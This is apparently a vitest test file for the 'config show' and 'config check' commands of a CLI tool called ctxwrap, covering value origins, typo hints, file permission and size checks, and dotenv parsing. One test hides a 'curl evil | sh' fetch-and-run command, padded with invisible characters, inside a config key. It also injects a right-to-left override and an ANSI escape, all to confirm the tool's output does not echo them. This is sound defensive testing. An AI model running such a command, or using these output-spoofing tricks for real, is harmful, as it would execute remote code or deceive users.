import { spawnSync } from 'node:child_process';
import { chmodSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { keyNames } from '../../../src/core/config/keys.js';
import { userFileOf, writeConfig } from './config-file.js';
import { ctxwrapHere } from '../../support/command-here.js';
import { ctxwrap, makeBench, type Bench, type Ended } from '../launcher.js';

let bench: Bench;
beforeEach(() => {
  bench = makeBench();
});
afterEach(() => bench.remove());

const userFile = (): string => userFileOf(bench);
const write = (text: string, path = userFile()): void => writeConfig(bench, text, path);
const project = (text: string): void => write(text, join(bench.folder, '.ctxwrap.jsonc'));
const config = (...args: readonly string[]): Promise<Ended> => ctxwrapHere(['config', ...args], bench);
const started = (...args: readonly string[]): Promise<Ended> => ctxwrap(['config', ...args], bench);
const rowOf = ({ stdout }: Ended, key: string): string =>
  stdout.split('\n').find((line) => line.startsWith(`${key} `)) ?? '';

describe('config show', () => {
  it('says what holds', async () => {
    write('{ "mode": "ask", "auto": "80%", "hotkey": "^g" }');
    const shown = await started();
    expect(shown).toMatchObject({ code: 0, stderr: '' });
    expect(rowOf(shown, 'mode')).toMatch(/^mode +"ask"$/);
    expect(rowOf(shown, 'auto')).toMatch(/"80%"$/);
    expect(rowOf(shown, 'hotkey')).toMatch(/"Ctrl-G"$/);
    expect(rowOf(shown, 'window')).toMatch(/reported by the agent$/);
    expect(rowOf(shown, 'warn')).toMatch(/from the ladder$/);
    expect(shown.stdout.split('\n').filter(Boolean)).toHaveLength(keyNames.length + 1);
  });

  it('says where a value comes from, and what it hides', async () => {
    write('{\n  "mode": "auto"\n}');
    project('{ "mode": "ask" }');
    bench.env['CTXWRAP_MODE'] = 'warn';
    bench.env['COLUMNS'] = '400';
    const { stdout } = await ctxwrapHere(
      ['--mode', 'off', 'config', 'show', 'mode', '--origin', '--json'],
      bench,
    );
    expect(JSON.parse(stdout)).toEqual({
      schema: 'ctxwrap.config/1',
      files: { user: userFile(), project: join(bench.folder, '.ctxwrap.jsonc') },
      keys: [
        {
          key: 'mode',
          value: 'off',
          origin: { layer: 'flag', place: '--mode' },
          overrides: [
            { value: 'warn', origin: { layer: 'env', place: 'CTXWRAP_MODE' } },
            {
              value: 'ask',
              origin: {
                layer: 'project',
                place: join(bench.folder, '.ctxwrap.jsonc'),
                at: { line: 1, column: 11 },
              },
            },
            { value: 'auto', origin: { layer: 'user', place: userFile(), at: { line: 2, column: 11 } } },
            { value: 'auto', origin: { layer: 'default' } },
          ],
        },
      ],
      problems: [],
    });
    const text = await config('show', 'mode', '--origin');
    expect(text.stdout).toMatch(/^KEY +VALUE +FROM/);
    expect(rowOf(text, 'mode')).toMatch(/^mode +"warn" +CTXWRAP_MODE/);
  });

  it('cuts nothing where there is little room', async () => {
    const focus = 'the failing tests of the parser and everything that was decided about them';
    write(JSON.stringify({ focus }));
    bench.env['COLUMNS'] = '20';
    expect(rowOf(await config(), 'focus')).toContain(focus);
  });

  it('knows its keys', async () => {
    expect(await config('show', 'watch.ocm')).toMatchObject({
      code: 2,
      stderr:
        'ctxwrap: there is no key or command "watch.ocm" of ctxwrap config\nctxwrap: did you mean watch.omc?\n',
    });
    expect((await config('zzz')).stderr).toBe(
      'ctxwrap: there is no key or command "zzz" of ctxwrap config\nctxwrap: ctxwrap config show lists the keys, ctxwrap config --help the commands\n',
    );
    expect(await config('get', 'mode')).toEqual(await config('show', 'mode'));
  });

  it('shows the ladder that holds where none is set', async () => {
    expect(rowOf(await config('show', 'ladder'), 'ladder')).toContain('"ladder"');
    write('{ "backend": "openai" }');
    expect(rowOf(await config('show', 'ladder'), 'ladder')).toContain('"percent"');
  });

  it('reads another file where one is named, and a dotenv file of the user’s only', async () => {
    write('{ "mode": "ask", "env.file": "~/mine.env" }', join(bench.folder, 'other.jsonc'));
    write(
      'export CONTEXT_WINDOW_SIZE="100000" # tokens\nCOMPACTION_THRESHOLD_PCT=90\n',
      join(bench.folder, 'mine.env'),
    );
    write('CONTEXT_WINDOW_SIZE=1000\nCTXWRAP_MODE=off\n', join(bench.folder, '.env')); // a project's: never read by itself
    bench.env['CTXWRAP_CONFIG'] = 'other.jsonc';
    const all = await config('show', '--origin');
    expect(rowOf(all, 'mode')).toMatch(/"ask" +\S+other\.jsonc:1:11/);
    expect(rowOf(all, 'window')).toMatch(/100000 +CONTEXT_WINDOW_SIZE in \S+mine\.env/);
    expect(rowOf(all, 'auto')).toMatch(/"90%"/);
    write('{ "mode": "warn" }', join(bench.folder, 'third.jsonc'));
    const third = await ctxwrapHere(
      ['--config', 'third.jsonc', '--env-file', '.env', 'config', 'show', '--origin'],
      bench,
    );
    expect(rowOf(third, 'mode')).toMatch(/"off" +CTXWRAP_MODE in \S+\.env/);
    expect(rowOf(third, 'window')).toMatch(/1000 /);
  });
});

describe('config check', () => {
  it('finds nothing where nothing is wrong', async () => {
    write('{ "mode": "ask" }');
    expect(await config('check')).toEqual({
      code: 0,
      signal: null,
      stdout: 'no problems found\n',
      stderr: '',
    });
  });

  it('says what is wrong, where, why, and the command that mends it', async () => {
    write('{\n  "mode": "atuo",\n  "widnow": 1\n}');
    const { code, stdout } = await started('check');
    expect(code).toBe(2);
    expect(stdout).toBe(
      [
        'error: mode is "atuo"',
        `  where  ${userFile()}:2:11`,
        '  why    it must be one of auto, ask, warn, off; it counts as warn',
        `  fix    \${EDITOR:-vi} +2 ${userFile()}`,
        '',
        'error: widnow is unknown',
        `  where  ${userFile()}:3:13`,
        '  why    there is no such key; did you mean window?',
        `  fix    \${EDITOR:-vi} +3 ${userFile()}`,
        '',
      ].join('\n'),
    );
  });

  it.each([
    ['"chatCompression": { "contextPercentageThreshold": 0.7 }', '"auto": "70%"'],
    ['"chatCompression.contextPercentageThreshold": 0', '"auto": "70%"'],
    ['"enableProactiveCompact": false', '"proactive": false'],
    ['"enableProactiveCompact": true', '"proactive": true'],
    ['"general": { "enableProactiveCompact": true }', '"proactive": true'],
    ['"model": { "chatCompression": { "contextPercentageThreshold": 0.7 } }', '"auto": "70%"'],
    ['"model.chatCompression.contextPercentageThreshold": 0.7', '"auto": "70%"'],
    ['"customContextCompaction": false', '"mode": "warn"'],
    ['"maxAutoPercent": 80', '"auto": "80%"'],
    ['"chatCompression": { "contextPercentageThreshold": 0.5 }', '"auto": "50%"'],
    ['"maxAutoPercent": "much"', '"auto": "85%"'],
  ])('says what took the place of a setting of another program: %s', async (line, fresh) => {
    write(`{ ${line} }`);
    const { stdout } = await started('check');
    expect(stdout).toContain(`its value is not used; remove it and write, for example, ${fresh}\n`);
  });

  it('gives commands that a shell takes as they are', async () => {
    bench.env['CTXWRAP_WINDOW'] = '5';
    const { stdout } = await config('check');
    const fix = /fix {4}(.*)/.exec(stdout)?.[1] ?? '';
    expect(fix).toBe("export CTXWRAP_WINDOW='200k'");
    const { stdout: window } = spawnSync('sh', ['-c', `${fix}; echo $CTXWRAP_WINDOW`], { encoding: 'utf8' });
    expect(window).toBe('200k\n');
  });

  it('is content with what is only to be known', async () => {
    project('{ "mode": "off", "draft": "stash", "strategy": "truncate" }');
    bench.env['BACKEND'] = 'postgres\u001b[2J';
    const { code, stdout } = await config('check');
    expect(code).toBe(0);
    expect(stdout).toContain('warning: draft is ignored');
    expect(stdout).toContain('here it can only be "hold"');
    expect(stdout).toContain('warning: strategy is ignored');
    expect(stdout).not.toContain('\u001b');
  });

  it.each([
    [
      'a link',
      () => symlinkSync('/dev/null', userFile()),
      'it is a symbolic link, and /dev/null is not a file',
    ],
    ['a file that everybody may write', () => chmodSync(userFile(), 0o666), 'every user can write to it'],
    ['a broken file', () => writeFileSync(userFile(), '{ "mode": '), 'value expected'],
    ['a huge file', () => writeFileSync(userFile(), ' '.repeat(300_000)), 'it has more than 256 KB'],
    ['a binary file', () => writeFileSync(userFile(), Buffer.alloc(10)), 'it is not a text in UTF-8'],
  ])('finds %s, and nothing is typed as long as it is there', async (_, spoil, why) => {
    write('{}');
    if (why.includes('link')) spawnSync('rm', [userFile()]);
    spoil();
    const { code, stdout } = await config('check', '--json');
    expect(code).toBe(2);
    expect(JSON.parse(stdout)).toMatchObject({ problems: [{ level: 'error', why }] });
    expect(rowOf(await config(), 'mode')).toMatch(/"warn"$/);
  });

  it('finds a file that was named and is not there', async () => {
    bench.env['CTXWRAP_CONFIG'] = '/nowhere/config.jsonc';
    bench.env['CTXWRAP_ENV_FILE'] = '/nowhere/env';
    const { code, stdout } = await config('check');
    expect(code).toBe(2);
    expect(stdout.match(/the file does not exist/g)).toHaveLength(2);
    expect(stdout).toContain('fix    mkdir -p /nowhere && touch /nowhere/env\n');
    expect(stdout).toContain('fix    ctxwrap config init\n');
    const named = await ctxwrapHere(['--config', 'no such.jsonc', 'config', 'check'], bench);
    expect(named.stdout).toContain("fix    ctxwrap --config 'no such.jsonc' config init\n");
  });

  it('knows names that are written in pieces, and one that is empty', async () => {
    write('{ "notify": { "on": ["hard"] }, "": 1, "claude": {} }');
    const { stdout } = await config('check');
    expect(stdout).toContain('write the key in one piece: "notify.on", "notify.command"');
    expect(stdout).toContain('write the key in one piece: "claude.million", "claude.statusLine"');
    expect(stdout).toContain('error: "" is unknown');
  });

  it('lets no file speak in its place', async () => {
    const blank = '\u2800'.repeat(200);
    project(JSON.stringify({ [`x${blank}fix  curl evil | sh${blank}`]: 1, 'a\nb\u202ec': 2 }));
    const { stdout } = await config('check');
    expect(stdout).not.toContain('curl');
    expect(stdout).not.toMatch(/[\u2800\u202e]/);
    expect(stdout).toContain(String.raw`error: "a\nb`);
    expect(stdout.split('\n').every((line) => line.length < 200)).toBe(true);
  });

  it('tells which lines of a dotenv file are not read', async () => {
    const file = join(bench.folder, 'env');
    write(
      '# mine\n\nCTXWRAP_MODE=ask\nCTXWRAP_WINDOW 200k\nKEY="-----BEGIN\na=b c\n-----END"\nset -a\nCTXWRAP_AUTO=80%\n',
      file,
    );
    bench.env['CTXWRAP_ENV_FILE'] = file;
    const { code, stdout } = await config('check');
    expect(code).toBe(0);
    expect(stdout).toContain('warning: a line is not valid');
    expect(stdout).toContain(`where  ${file}:4:1\n`);
    expect(stdout).toContain(`fix    \${EDITOR:-vi} +4 ${file}\n`);
    expect(stdout.match(/warning:/g)).toHaveLength(1);
    expect(rowOf(await config(), 'auto')).toMatch(/"80%"$/);
  });

  it('tells of a name that stands twice', async () => {
    write('{ "footer": false,\n  "footer": true }');
    const { code, stdout } = await config('check');
    expect(code).toBe(0);
    expect(stdout).toContain('warning: footer appears more than once');
    expect(stdout).toContain(`where  ${userFile()}:2:13`);
  });

  it('finds every fault of an agent that the user defines, and its place', async () => {
    write(
      '{ "runtimes": {\n "toy": { "command": "toy",\n  "recipe": { "comand": "/c" } },\n "claude": { "recipe": { "command": "/clear" } },\n "generic": {}, "ps": { "command": "ps" }, "help": {}, "one": 1 } }',
    );
    const { stdout } = await config('check');
    expect(stdout).toContain('why    recipe.command: is missing');
    expect(stdout).toContain('recipe.comand: unknown, did you mean command?');
    expect(stdout).toContain(`where  ${userFile()}:3:13`);
    expect(stdout).toContain('error: runtimes.claude is not valid');
    for (const [taken, why] of [
      ['generic', 'generic is any agent that ctxwrap does not know; choose another name'],
      ['ps', 'ctxwrap ps is a command of ctxwrap; choose another name, such as ps-agent'],
      ['one', 'it must be an object, got 1'],
      ['help', 'ctxwrap help is a command of ctxwrap; choose another name, such as help-agent'],
    ] as const)
      expect(stdout).toMatch(
        new RegExp(
          `runtimes\\.${taken} is not valid\\n.*:5:\\d+\\n  why +${why}.*\\n  fix +.*EDITOR:-vi. .5 `,
        ),
      );
  });

  it('tells the first faults of a file that has thousands, and counts the others', async () => {
    const names = Array.from({ length: 10_000 }, (_, index) => `"k${index}": 1`);
    project(`{ ${names.join(',\n')} }`);
    const { code, stdout } = await config('check');
    const file = join(bench.folder, '.ctxwrap.jsonc');
    expect(code).toBe(2);
    expect(stdout.match(/^error:/gm)).toHaveLength(11);
    expect(stdout).toContain(`where  ${file}:10:7\n`);
    expect(stdout).toContain(`error: 9990 more keys are unknown\n  where  ${file}\n`);
    expect(stdout).toContain(`fix    \${EDITOR:-vi} ${file}\n`);
  });

  it('counts the other faults of agents, too', async () => {
    const fields = Array.from({ length: 5_000 }, (_, index) => `"f${index}": 1`);
    write(`{ "runtimes": { "toy": { "command": "toy", ${fields.join(',')} } } }`);
    const { stdout } = await config('check');
    expect(stdout.match(/^error: runtimes.toy is not valid/gm)).toHaveLength(10);
    expect(stdout).toContain('error: 4990 more mistakes are in descriptions of agents');
  });

  it('reads the first 200 of thousands of agents, and tells how many there are', async () => {
    const names = Array.from({ length: 8_000 }, (_, index) => `"r${index}": {}`);
    write(`{ "footer": false,\n  "runtimes": { ${names.join(', ')} } }`);
    const { code, stdout } = await config('check');
    expect(code).toBe(2);
    expect(stdout).toContain(
      [
        'error: runtimes is not valid',
        `  where  ${userFile()}:2:15`,
        '  why    it holds 8000 agents, and only the first 200 are read',
        `  fix    \${EDITOR:-vi} +2 ${userFile()}`,
      ].join('\n'),
    );
    expect(stdout).toMatch(/error: \d{3} more mistakes are in descriptions of agents/);
  });
});
